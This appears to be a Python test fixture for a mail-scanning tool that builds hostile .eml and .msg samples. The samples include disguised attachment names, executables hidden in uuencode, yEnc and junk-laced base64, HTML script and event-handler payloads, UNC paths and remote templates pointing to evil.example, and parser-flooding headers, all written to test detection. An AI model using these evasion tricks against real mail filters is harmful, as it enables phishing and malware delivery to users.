"""E-mails that hide what is attached, or point elsewhere; each as one mail program or another would understand it."""

import base64
import binascii
import struct

from documents.tests import samples
from documents.tests.hostile import (
    DAMAGED,
    EXE,
    FILES,
    NOT_SAFE,
    PROGRAMS,
    PROTECTED,
    SCRIPT,
    TOO_BIG,
    attached,
    forwarded,
    mail,
    write_compound,
)

HTA = b"<hta:application/><script>1</script>"
VBS = b"WScript.Echo(1)\r\n" * 20
UNC = "\\\\evil.example\\share\\a.wav"
PACKED = base64.encodebytes(EXE).replace(b"\n", b"\r\n")


def named(disposition: str, content: bytes = VBS, *, kind: str = "application/octet-stream") -> bytes:
    head = f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
    head += f"Content-Disposition: attachment; {disposition}"
    return mail(head.encode() + b"\r\n\r\n" + base64.encodebytes(content))


def part(head: bytes, content: bytes) -> bytes:
    return mail(head + b"\r\n\r\n" + content)


def of_apple(page: bytes) -> tuple:
    return "a.eml", lambda: mail(attached("ATT00001.htm", page, "text/html")), FILES


# Named as Apple's mail program names the text behind an attachment.
OF_APPLE = {
    "has a script": SCRIPT,
    "has a script in capitals": b"<p>a</p><ScRiPt src=//evil.example>",
    "has a handler": b'<div onclick="x()">a</div>',
    "has a handler without a space": b'<div class="a"onclick="x()">a</div>',
    "has a handler without quotes": b"<body onload=x()>",
    "has a handler behind a slash": b"<div/onclick=x()>",
    "has a link of a script": b'<a href="javascript:x()">a</a>',
    "has a link of a script in entities": b'<a href="&#106;avascript:x()">a</a>',
    "has a link to a file": b'<a href="file://evil.example/a">a</a>',
    "has a picture of a host": b'<img src="https://evil.example/a.png">',
    "has a style of a host": b'<div style="background: url(https://evil.example/a)">a</div>',
    "has a style in escapes": b'<div style="background: u\\72l(https://evil.example/a)">a</div>',
    "has a style that computes": b'<div style="width: expression (1)">a</div>',
    "has a style that binds": b'<div style="-moz-binding: none">a</div>',
    "has a sheet": b"<style>@import 'https://evil.example'</style>",
    "goes elsewhere": b'<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "goes elsewhere by its content": b'<meta http-equiv="content-type" http-equiv="refresh" content="0">',
    "has a base": b'<base href="https://evil.example/">',
    "has a form": b'<form action="https://evil.example"><input name="a"></form>',
    "has a frame": b'<iframe src="https://evil.example"></iframe>',
    "has a drawing": b"<svg><script>x()</script></svg>",
    "has a mark that ends nowhere": b'<div class="a" onclick=x()',
    "has a comment": b"<!--[if mso]><script>x()</script><![endif]-->",
    "has a quote too many": b'<div title="a" " onclick=x() ">a</div>',
    "is written in other letters": "<script>x()</script>".encode("utf-16"),
    "is written in seven bits": b'<meta charset="utf-7">+ADw-script+AD4-x()+ADw-/script+AD4-',
}


def kind(name: str) -> tuple:
    return "a.eml", lambda: part(f"Content-Type: {name}".encode(), b"x"), FILES


def packed_mails(depth: int) -> bytes:
    inner = samples.eml()
    for _ in range(depth):
        inner = mail(attached("mail.eml", inner))
    return inner


def forwarded_mails(depth: int) -> bytes:
    inner = samples.eml()
    for _ in range(depth):
        inner = mail(forwarded(inner))
    return inner


def of_unix(name: bytes, content: bytes = EXE) -> bytes:
    lines = b"".join(binascii.b2a_uu(content[n : n + 45]) for n in range(0, len(content), 45))
    return b"begin 644 " + name + b"\n" + lines + b"`\nend\n"


def junk(content: bytes) -> bytes:
    """Marks that belong to no alphabet, between the letters of base64."""
    return b"\r\n".join(
        b"!*".join(bytes([letter]) for letter in line) for line in base64.encodebytes(content).split()
    )


def outlook(attachment: dict, **extra: bytes | dict) -> bytes:
    tree: dict = {"__properties_version1.0": bytes(4096), "__attach_version1.0_#00000000": attachment}
    return write_compound(tree | extra)


def text(said: str) -> bytes:
    return said.encode("utf-16-le")


def method(number: int) -> bytes:
    return bytes(8) + struct.pack("<LLLL", 0x37050003, 6, number, 0)


def with_named_property(identifier: int, value: str) -> bytes:
    """A property that has a number of its own in each message: here the first."""
    table = struct.pack("<LHH", identifier, 6, 0)
    names = {"__substg1.0_00030102": table}
    return write_compound(
        {
            "__properties_version1.0": bytes(4096),
            "__nameid_version1.0": names,
            "__substg1.0_8000001F": text(value),
        }
    )


NAME, SHORT, CONTENT, PLACE = (
    "__substg1.0_3707001F",
    "__substg1.0_3704001F",
    "__substg1.0_37010102",
    "__substg1.0_370D001F",
)

BAD = {
    "eml with a name in words": ("a.eml", lambda: named('filename="=?utf-8?B?YS52YnM=?="'), FILES),
    "eml with a name in quoted words": ("a.eml", lambda: named('filename="=?utf-8?Q?a=2Evbs?="'), FILES),
    "eml with two names": ("a.eml", lambda: named('filename="a.txt"; filename="a.vbs"'), FILES),
    "eml with another name of its kind": (
        "a.eml",
        lambda: named('filename="a.txt"', kind='application/octet-stream; name="a.vbs"'),
        FILES,
    ),
    "eml with another name in percent": (
        "a.eml",
        lambda: named("filename=\"a.txt\"; filename*=utf-8''a%2Evbs"),
        FILES,
    ),
    "eml with a name of a plain star": ("a.eml", lambda: named('filename*="a.vbs"'), FILES),
    "eml with a name in pieces in disorder": (
        "a.eml",
        lambda: named("filename*1*=s; filename*0*=utf-8''a%2Evb"),
        FILES,
    ),
    "eml with a name turned around": ("a.eml", lambda: named('filename="a\u202etxt.vbs"'), FILES),
    "eml with a name with a dot at its end": ("a.eml", lambda: named('filename="a.vbs."'), FILES),
    "eml with a name with blanks at its end": ("a.eml", lambda: named('filename="a.vbs   "'), FILES),
    "eml with a name with a stream": ("a.eml", lambda: named('filename="a.vbs::$DATA"'), FILES),
    "eml with a name with a zero": ("a.eml", lambda: named('filename="a.vbs%00.txt"'), FILES),
    "eml with a name without quotes": ("a.eml", lambda: named("filename=my offer.vbs"), FILES),
    "eml with a name whose quote never ends": ("a.eml", lambda: named('filename="a.vbs'), FILES),
    "eml with a name on the next line": ("a.eml", lambda: named('\r\n\tfilename=\r\n "a.vbs"'), FILES),
    "eml with a name in capitals": ("a.eml", lambda: named('FILENAME="A.VBS"'), FILES),
    "eml with a path as a name": ("a.eml", lambda: named('filename="C:\\\\x\\\\a.lnk"'), FILES),
    "eml with a field after a line of nothing": (
        "a.eml",
        lambda: part(
            b'Content-Type: application/octet-stream\r\nnothing\r\nContent-Disposition: x; filename="a.js"',
            b"x",
        ),
        FILES,
    ),
    "eml with its parts' lines ended as of old": (
        "a.eml",
        lambda: mail(attached("a.hta", HTA)).replace(b"\r\n", b"\r").replace(b"\r", b"\r\n", 2),
        FILES,
    ),
    "eml with two encodings": (
        "a.eml",
        lambda: part(
            b"Content-Type: application/x-a\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64",
            PACKED,
        ),
        DAMAGED,
    ),
    "eml with an encoding in words": (
        "a.eml",
        lambda: part(b"Content-Type: application/x-a\r\nContent-Transfer-Encoding: base64 (x)", PACKED),
        FILES,
    ),
    "eml with an encoding that nobody knows": (
        "a.eml",
        lambda: part(
            b"Content-Type: application/x-a\r\nContent-Transfer-Encoding: x-uuencode", of_unix(b"a")
        ),
        DAMAGED,
    ),
    "eml with two boundaries": (
        "a.eml",
        lambda: mail(attached("a.txt", b"x")).replace(b'boundary="b"', b'boundary="c"; boundary="b"'),
        DAMAGED,
    ),
    "eml with a boundary that is none": (
        "a.eml",
        lambda: part(
            b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64",
            base64.encodebytes(samples.pdf()) + b"--c\r\n" + PACKED,
        ),
        DAMAGED,
    ),
    "eml with a program behind the end of a text": (
        "a.eml",
        lambda: part(
            b"Content-Type: application/x-a\r\nContent-Transfer-Encoding: base64", b"eA==\r\n" + PACKED
        ),
        DAMAGED,
    ),
    "eml with a program between marks": (
        "a.eml",
        lambda: part(b"Content-Type: application/x-a\r\nContent-Transfer-Encoding: base64", junk(EXE)),
        FILES,
    ),
    "eml with a program in quoted text": (
        "a.eml",
        lambda: part(
            b"Content-Type: application/x-a\r\nContent-Transfer-Encoding: quoted-printable",
            binascii.b2a_qp(EXE),
        ),
        FILES,
    ),
    "eml with a program said to be a text": (
        "a.eml",
        lambda: mail(attached("a.txt", EXE, "text/plain")),
        FILES,
    ),
    "eml of unix with a renamed program": ("a.eml", lambda: samples.eml() + of_unix(b"offer.pdf"), FILES),
    "eml of unix with a program without an ending": (
        "a.eml",
        lambda: samples.eml() + of_unix(b"offer"),
        FILES,
    ),
    "eml of unix in base64": (
        "a.eml",
        lambda: samples.eml() + b"begin-base64 644 offer\r\n" + PACKED + b"====\r\n",
        FILES,
    ),
    "eml of unix in a packed text": (
        "a.eml",
        lambda: part(
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64",
            base64.encodebytes(of_unix(b"setup.exe")),
        ),
        FILES,
    ),
    "eml of unix that hides a head": (
        "a.eml",
        lambda: samples.eml() + b'begin 644 a.txt\nContent-Disposition: attachment; filename="a.js"\n\nx\n',
        FILES,
    ),
    "eml of news": (
        "a.eml",
        lambda: samples.eml() + b"=ybegin line=128 size=9 name=setup.exe\r\nx\r\n",
        FILES,
    ),
    "eml whose content lies elsewhere": (
        "a.eml",
        lambda: part(
            b'Content-Type: message/external-body; access-type=URL; URL="http://evil.example"', b"x"
        ),
        NOT_SAFE,
    ),
    "eml that is one piece of a mail": kind("message/partial; id=a; number=1"),
    "eml with an application of the web": kind("application/hta"),
    "eml with a script without a name": kind("text/javascript"),
    "eml with a drawing that can act": kind("image/svg+xml"),
    "eml with an archive without a name": kind("application/zip"),
    "eml with a program by its kind": kind("Application/X-MSDownload"),
    **{f"eml with a web page of Apple's that {what}": of_apple(page) for what, page in OF_APPLE.items()},
    "eml with a web page without a name": (
        "a.eml",
        lambda: part(b"Content-Type: text/html\r\nContent-Disposition: attachment", SCRIPT),
        FILES,
    ),
    "eml with Outlook's container, renamed": (
        "a.eml",
        lambda: mail(attached("a.dat", b"\x78\x9f\x3e\x22\1\0" + bytes(90))),
        FILES,
    ),
    "eml with a cabinet": ("a.eml", lambda: mail(attached("a.dat", b"MSCF" + bytes(90))), FILES),
    "eml with a rich text with an object": (
        "a.eml",
        lambda: mail(attached("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")),
        FILES,
    ),
    "eml with a rich text as a letter": (
        "a.eml",
        lambda: mail(attached("a.doc", b"{\\rt{\\*\\template http://evil.example/a.dotm}}")),
        FILES,
    ),
    "eml with an older letter with macros": (
        "a.eml",
        lambda: mail(attached("a.doc", write_compound({"Macros": {"dir": b"x"}, "WordDocument": b"x"}))),
        FILES,
    ),
    "eml that is sealed by its name": (
        "a.eml",
        lambda: mail(attached("smime.p7m", b"\x30\x82\1\1" + bytes(200))),
        FILES,
    ),
    "eml that is signed around a program": (
        "a.eml",
        lambda: mail(attached("smime.p7m", mail(attached("a.exe", EXE)))),
        FILES,
    ),
    "eml in eml, seven times, packed": ("a.eml", lambda: packed_mails(7), FILES),
    "eml in eml, fifty times": ("a.eml", lambda: forwarded_mails(50), TOO_BIG),
    "eml with a kind of 50,000 semicolons": (
        "a.eml",
        lambda: part(b"Content-Type: application/pdf" + b";" * 50_000, b"x"),
        DAMAGED,
    ),
    "eml with a kind of a megabyte": (
        "a.eml",
        lambda: part(b"Content-Type: application/pdf; " + b"a=b; " * 200_000, b"x"),
        DAMAGED,
    ),
    "eml with a picture that is a bomb": (
        "a.eml",
        lambda: mail(attached("a.png", samples.png_flood(30_000), "image/png")),
        FILES,
    ),
    "msg with two names": (
        "a.msg",
        lambda: outlook({NAME: text("a.txt"), SHORT: text("A.VBS"), CONTENT: VBS}),
        FILES,
    ),
    "msg with an ending of its own": (
        "a.msg",
        lambda: outlook({NAME: text("a"), "__substg1.0_3703001F": text(".vbs"), CONTENT: VBS}),
        FILES,
    ),
    "msg with a name with a zero": (
        "a.msg",
        lambda: outlook({NAME: text("a.vbs\0.txt"), CONTENT: VBS}),
        FILES,
    ),
    "msg with a file that lies elsewhere": (
        "a.msg",
        lambda: outlook(
            {NAME: text("a.txt"), "__properties_version1.0": method(4), PLACE: text("C:\\a.txt")}
        ),
        NOT_SAFE,
    ),
    "msg with a file of a host": (
        "a.msg",
        lambda: outlook({NAME: text("a.txt"), PLACE: text(UNC)}),
        NOT_SAFE,
    ),
    "msg with an object that is a package": (
        "a.msg",
        lambda: outlook({NAME: text("a"), "__substg1.0_3701000D": {"\x01Ole10Native": b"x"}}),
        FILES,
    ),
    "msg with an object that is a link": (
        "a.msg",
        lambda: outlook({NAME: text("a"), "__substg1.0_3701000D": {"\x01Ole": struct.pack("<LL", 1, 1)}}),
        NOT_SAFE,
    ),
    "msg with a program in a message inside": (
        "a.msg",
        lambda: outlook(
            {
                "__substg1.0_3701000D": {
                    "__properties_version1.0": bytes(99),
                    "__attach_version1.0_#00000000": {NAME: text("a.exe"), CONTENT: EXE},
                }
            }
        ),
        FILES,
    ),
    "msg whose reminder sounds from a host": ("a.msg", lambda: with_named_property(0x851F, UNC), NOT_SAFE),
    "msg with a form and its script": ("a.msg", lambda: with_named_property(0x8541, "x"), PROGRAMS),
    "msg that is sealed": (
        "a.msg",
        lambda: outlook({NAME: text("a")}, **{"__substg1.0_001A001F": text("IPM.Note.SMIME")}),
        PROTECTED,
    ),
    "msg with a rich text with an object": (
        "a.msg",
        lambda: outlook({NAME: text("a.rtf"), CONTENT: b"{\\rtf1{\\object{\\*\\objdata 0105}}}"}),
        FILES,
    ),
}
